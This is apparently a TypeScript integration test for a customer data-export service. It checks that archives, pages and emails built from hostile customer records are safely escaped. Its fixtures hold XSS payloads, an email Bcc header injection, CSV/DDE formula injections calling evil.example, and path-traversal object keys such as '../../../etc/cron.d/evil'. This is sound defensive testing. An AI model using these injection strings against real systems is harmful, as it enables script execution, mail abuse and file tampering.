import { PutItemCommand } from '@aws-sdk/client-dynamodb';
import { PutObjectCommand } from '@aws-sdk/client-s3';
import { beforeAll, describe, expect, it } from 'vitest';
import { toItem } from '../../functions/shared/aws/dynamo-items.ts';
import { itemsOf } from '../../local/inspect.ts';
import { type ReadArchive, readArchive } from '../../local/read-archive.ts';
import type { SeededCustomer } from '../../local/seed/customers.ts';
import { accountItemsOf } from '../../local/seed/seed.ts';
import { readHtml } from '../web/read-html.ts';
import { localStack } from './support.ts';

/** What somebody typed into the provider's other systems, where nobody stopped them. */
const hostile = {
  name: '<script>alert(1)</script> "Lan" & \'Phúc\'\r\nBcc: everybody@evil.example\r\n\r\n<img src=x onerror=alert(2)>\u202etxt',
  phone: '=HYPERLINK("https://evil.example/?"&A1;"Gọi lại")',
  postalAddress: "+cmd|' /C calc'!A0;=1+1\n@SUM(1;2)\t-3",
  preferences: '</td></tr></table><h1 onclick="x">`7*7` {{7*7}}</h1>',
  role: '"><svg onload=alert(3)>',
};
/** Keys of objects, as a customer's own tools can make them. */
const paths = [
  'website/../../../etc/cron.d/evil',
  'website/..\\..\\windows\\evil.bat',
  'website/<img src=x onerror=alert(4)>.html',
  'website/javascript:alert(5)',
  'website/a\r\nb: c',
  'website/nul.txt',
  'website/\u202egpj.exe',
  '/etc/passwd',
];

describe('a copy of hostile records', () => {
  const local = localStack({ periods: { graceSeconds: 2, archiveSeconds: 600 } });
  let owner: SeededCustomer;
  let archive: ReadArchive;
  let pages: string[];

  const text = (path: string): string => archive.files.get(path)?.toString() ?? '';

  beforeAll(async () => {
    const { clients, tables, buckets, keys } = local.stack;
    const ordinary = await local.newCustomer();
    owner = {
      ...ordinary,
      name: hostile.name,
      phone: hostile.phone,
      profile: { ...ordinary.profile, postalAddress: hostile.postalAddress },
      contacts: [{ role: hostile.role, name: hostile.name, address: '@evil', phone: '-1' }],
      facts: { ...ordinary.facts, preferences: hostile.preferences },
    };
    for (const item of accountItemsOf(owner, keys))
      await clients.dynamo.send(new PutItemCommand({ TableName: tables.account, Item: toItem(item) }));
    for (const path of paths)
      await clients.s3.send(
        new PutObjectCommand({ Bucket: buckets.hosting, Key: `customers/${owner.id}/${path}`, Body: path }),
      );

    const handover = await local.confirmed(owner, { kind: 'handover', scope: 'everything' });
    const { link, links } = await local.customer.waitForLetter(handover, 'download');
    const code = handover.matchCode;
    const download = await local.customer.visit(link);
    const ready = await local.customer.press(download, { action: 'download', code });
    const url = ready.root.querySelector('a[href*="X-Amz-Signature"]')?.getAttribute('href') ?? '';
    archive = await readArchive(Buffer.from(await (await fetch(url)).arrayBuffer()));
    const status = links.find((each) => each.includes('/status/')) ?? '';
    pages = [await (await fetch(link)).text(), ready.root.toString(), await (await fetch(status)).text()];
    await local.customer.press(download, { action: 'discard', code });
    await local.waitFor(handover.reference, 'completed');
  });

  it('is whole: every record and file is in it, as its manifest says', async () => {
    expect(archive.wrong).toEqual([]);
    expect(archive.manifest.missing).toEqual([]);
    const [profile] = JSON.parse(text('information/profile.json')) as Record<string, unknown>[];
    expect(profile).toMatchObject({
      name: hostile.name,
      phone: hostile.phone,
      postalAddress: hostile.postalAddress,
    });
    const contents = [...archive.files]
      .filter(([path]) => path.startsWith('data/'))
      .map(([, file]) => `${file}`);
    for (const path of paths) expect(contents).toContain(path);
  });

  it('unpacks into its own folder, under names that every system takes', () => {
    for (const path of archive.files.keys()) {
      expect(path).not.toMatch(/^\/|\\|\p{Cc}|[<>:"|?*]/u);
      expect(path.split('/')).not.toContain('..');
      expect(path.split('/')).not.toContain('');
      expect(path).not.toMatch(/(^|\/)nul\./i);
    }
    const renamed = archive.manifest.entries.flatMap(({ originalPath }) => originalPath ?? []);
    expect(renamed).toContain('website/nul.txt');
  });

  it('shows them as text on its readable page, which runs and fetches nothing', () => {
    const page = readHtml(text('index.html'));

    expect(page.text).toContain('<script>alert(1)</script> "Lan" & \'Phúc\'');
    expect(page.text).toContain(hostile.preferences);
    expect(page.text).toContain(hostile.role);
    expect(page.tags.filter(({ name }) => isActive.test(name))).toEqual([]);
    const attributes = page.tags.flatMap(({ attributes: all }) => Object.entries(all));
    expect(attributes.filter(([name]) => name.startsWith('on'))).toEqual([]);
    for (const [, href] of attributes.filter(([name]) => name === 'href'))
      expect(href).toMatch(/^(\.\/data\/|data\/|manifest\.json$)/);
  });

  it('lets no spreadsheet run them, whichever separator it goes by', () => {
    const tables = [...archive.files].filter(([path]) => path.endsWith('.csv'));

    expect(tables.length).toBeGreaterThan(4);
    for (const [path, bytes] of tables)
      for (const cell of String(bytes)
        .slice(1)
        .split(/[,;\t\r\n]/))
        expect(cell.replace(/^[\s"]+/, ''), path).not.toMatch(/^[=+\-@]/);
  });

  it('shows nothing of them on a page of the web site', () => {
    for (const page of pages) expect(page).not.toMatch(/alert\(|evil|HYPERLINK|Phúc/);
  });

  it('shows the name as one line of text in every letter, which goes to its owner alone', async () => {
    const letters = await local.mailTo(owner.address);

    expect(letters).toHaveLength(3);
    for (const { source, read } of letters) {
      expect(source.split('\r\n\r\n', 1)[0]).not.toMatch(/evil|^bcc/im);
      expect(read.headers.to).toBe(owner.address);
      const [greeting] = read.text.split('\n');
      expect(greeting).toContain('<script>alert(1)</ script> "Lan" & \'Phúc\' Bcc: everybody@ evil. example');
      // Nothing that a mail program makes a link of.
      expect(greeting).not.toMatch(/[.:/\\@]\S|\u202e/);
      const html = readHtml(read.html);
      expect(html.text).toContain('<script>alert(1)</ script>');
      expect(html.tags.filter(({ name }) => isActive.test(name))).toEqual([]);
      expect(read.links.filter((link) => link.includes('evil'))).toEqual([]);
    }
    const everybody = await local.mailTo('everybody@evil.example');
    expect(everybody).toEqual([]);
  });

  it('leaves no name of theirs on the request when it is closed', async () => {
    const requests = await itemsOf(local.stack, 'requests');

    expect(JSON.stringify(requests)).not.toMatch(/alert\(|evil|HYPERLINK/);
  });
});

/** Elements that run, fetch or send something. */
const isActive = /^(script|img|svg|iframe|object|embed|form|base)$/;
